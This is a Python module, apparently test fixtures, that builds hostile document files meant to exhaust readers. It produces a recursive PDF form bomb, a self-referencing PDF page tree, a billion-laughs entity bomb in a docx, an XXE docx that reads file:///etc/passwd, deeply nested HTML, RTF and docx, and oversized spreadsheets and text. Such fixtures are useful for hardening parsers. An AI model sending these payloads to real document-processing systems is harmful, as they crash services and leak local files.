"""Files made to exhaust whoever reads them: small on the disk, and endless, huge or bottomless inside."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def traps() -> Iterator[tuple[str, bytes]]:
    """Yield them, each with a name; none of them can be read as a whole."""
    yield "forms-of-forms.pdf", forms_of_forms(12, 10)
    yield (
        "pages-of-pages.pdf",
        pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999>>"]),
    )
    yield "entities.docx", docx(f"{bomb()}<w:document xmlns:w='{W}'><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p>")
    yield "external.docx", docx('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
    yield "swelling.docx", docx(" " * 200_000_000)
    yield "deep.docx", docx(f"<w:document xmlns:w='{W}'><w:body>" + "<w:sdt><w:sdtContent>" * 9000)
    yield "deep.html", b"<html>" + b"<div>" * 200_000 + "9万元".encode()
    yield "deep.rtf", b"{\\rtf1" + b"{" * 500_000
    yield "spans.html", ("<table>" + "<tr><td colspan=9999 rowspan=9999>1</td></tr>" * 999 + "</table>").encode()
    yield "million-cells.ods", ods()
    yield "one-line.md", b"1" * 40_000_000


def pdf(objects: list[bytes]) -> bytes:
    """Write a PDF of objects numbered from 1, the catalogue first; without a table, which readers rebuild."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, content) for number, content in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer<</Size %d/Root 1 0 R>>\n%%%%EOF" % (len(objects) + 1)


def forms_of_forms(levels: int, copies: int) -> bytes:
    """Write a page that draws a form that draws a form many times, and so on: `copies` to the power of `levels`."""
    font = b"/Font<</F 5 0 R>>"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%s/XObject<</X 6 0 R>>>>>>" % font,
        b"<</Length 5>>stream\n/X Do\nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    for level in range(levels):
        drawn = b"/X Do " * copies if level < levels - 1 else b"BT /F 9 Tf 10 20 Td (9) Tj ET"
        inner = b"/XObject<</X %d 0 R>>" % (level + 7) if level < levels - 1 else b""
        head = b"<</Type/XObject/Subtype/Form/BBox[0 0 500 500]/Resources<<%s%s>>/Length %d>>" % (
            font,
            inner,
            len(drawn),
        )
        objects.append(head + b"stream\n" + drawn + b"\nendstream")
    return pdf(objects)


def bomb() -> str:
    """Declare entities that grow tenfold at each of ten steps."""
    steps = "".join(f'<!ENTITY a{step} "{f"&a{step - 1};" * 10}">' for step in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">{steps}]>'


def docx(main: str) -> bytes:
    """Pack a docx whose main part is this."""
    link = f'<Relationship Id="r" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    return zipped(
        {"_rels/.rels": f'<Relationships xmlns="{RELATIONS}">{link}</Relationships>', "word/document.xml": main}
    )


def ods() -> bytes:
    """Pack a spreadsheet that repeats one cell over its whole sheet."""
    names = {name: f"urn:oasis:names:tc:opendocument:xmlns:{name}:1.0" for name in ("office", "table", "text")}
    declared = " ".join(f'xmlns:{name}="{address}"' for name, address in names.items())
    cell = '<table:table-cell table:number-columns-repeated="16384"><text:p>1</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    body = f"<office:body><office:spreadsheet><table:table>{row}</table:table></office:spreadsheet></office:body>"
    mime = "application/vnd.oasis.opendocument.spreadsheet"
    content = f"<office:document-content {declared}>{body}</office:document-content>"
    return zipped({"mimetype": mime, "content.xml": content})


def zipped(parts: dict[str, str]) -> bytes:
    """Pack parts into a zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()
